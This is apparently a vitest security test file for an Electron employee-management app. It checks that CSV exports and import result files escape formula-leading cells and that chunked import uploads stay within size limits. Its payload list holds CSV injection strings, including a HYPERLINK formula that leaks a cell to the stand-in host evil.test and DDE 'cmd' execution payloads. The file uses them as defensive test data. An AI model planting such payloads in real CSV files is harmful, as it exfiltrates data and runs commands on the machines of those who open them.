import { describe, expect, it } from 'vitest';
import type { Employee } from '../../common/api';
import { employeesCsv } from '../../common/csv';
import { IMPORT_MAX_FILE_BYTES, IPC_CHANNELS } from '../../common/ipc';
import { checkingService } from '../unit/electron/import/support';
import { importResultCsv } from '../../electron/main/import/result-file';

/**
 * CSV injection (OWASP): names an attacker set on the portal, or cells of an import file quoted back
 * in the result file, must not run as formulas when the admin opens the CSV in a spreadsheet.
 * And an import upload cannot make main hold more than the limit or write outside its buffer.
 */
const PAYLOADS = [
  '=HYPERLINK("https://evil.test/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function employee(firstName: string, index: number): Employee {
  return {
    id: `acme-${index}`,
    firstName,
    lastName: firstName,
    email: `e${index}@acme.test`,
    role: 'tech',
    cellPhone: '+12125550100',
    twoFactor: { status: 'active', method: 'sms' },
    lastLoginAt: null,
    updatedAt: '2026-11-01T10:00:00.000Z',
    version: 1,
  };
}

/** The cells of a CSV as a spreadsheet reads them (quotes removed, CRLF rows). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let index = 0; index < csv.length; index++) {
    const char = csv[index]!;
    if (isQuoted) {
      if (char === '"' && csv[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') isQuoted = false;
      else cell += char;
    } else if (char === '"') isQuoted = true;
    else if (char === ',' || (char === '\r' && csv[index + 1] === '\n')) {
      out.push(cell);
      cell = '';
      if (char === '\r') index++;
    } else cell += char;
  }
  return out;
}

describe('CSV injection', () => {
  it('the export: no cell starts with = + - @ tab or CR', () => {
    const all = cells(employeesCsv(PAYLOADS.map(employee)).replace(/^\uFEFF/, ''));
    expect(all).toHaveLength((PAYLOADS.length + 1) * 9);
    for (const cell of all) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const payload of PAYLOADS) expect(all).toContain(`'${payload}`);
  });

  it('the result file: a cell quoted back in a message cannot start a formula either', () => {
    const csv = importResultCsv([], PAYLOADS.map((payload, index) => ({ row: index + 2, message: payload })));
    for (const cell of cells(csv.replace(/^\uFEFF/, ''))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('import uploads', () => {
  const service = checkingService({ lookupEmployees: () => Promise.reject(new Error('unused')) });

  it('a chunk that would write past the declared size is refused and the upload dropped', () => {
    expect(() => service.uploadChunk({ name: 'a.csv', size: 4, offset: 0, data: Buffer.from('abcdefgh').toString('base64') })).toThrow('The file arrived out of order. Choose it again.');
    expect(service.getState().phase).toBe('empty');
  });

  it('a chunk for another file or offset does not continue an upload', () => {
    service.uploadChunk({ name: 'a.csv', size: 8, offset: 0, data: Buffer.from('abcd').toString('base64') });
    expect(() => service.uploadChunk({ name: 'b.csv', size: 8, offset: 4, data: Buffer.from('efgh').toString('base64') })).toThrow();
    expect(() => service.uploadChunk({ name: 'a.csv', size: 8, offset: 4, data: Buffer.from('efgh').toString('base64') })).toThrow();
    expect(service.getState().file).toBeNull();
  });

  it('the declared size and the chunk size are bounded by the channel schema', () => {
    const schema = IPC_CHANNELS['import:upload-chunk'].input;
    expect(schema.safeParse({ name: 'a.csv', size: 10, offset: 0, data: 'QUJD' }).success).toBe(true);
    expect(schema.safeParse({ name: 'a.csv', size: IMPORT_MAX_FILE_BYTES + 1, offset: 0, data: 'QUJD' }).success).toBe(false);
    expect(schema.safeParse({ name: 'a.csv', size: 10, offset: 0, data: 'A'.repeat(48 * 1024 + 4) }).success).toBe(false);
    expect(schema.safeParse({ name: 'a.csv', size: 10, offset: 0, data: 'not base64!' }).success).toBe(false);
  });
});
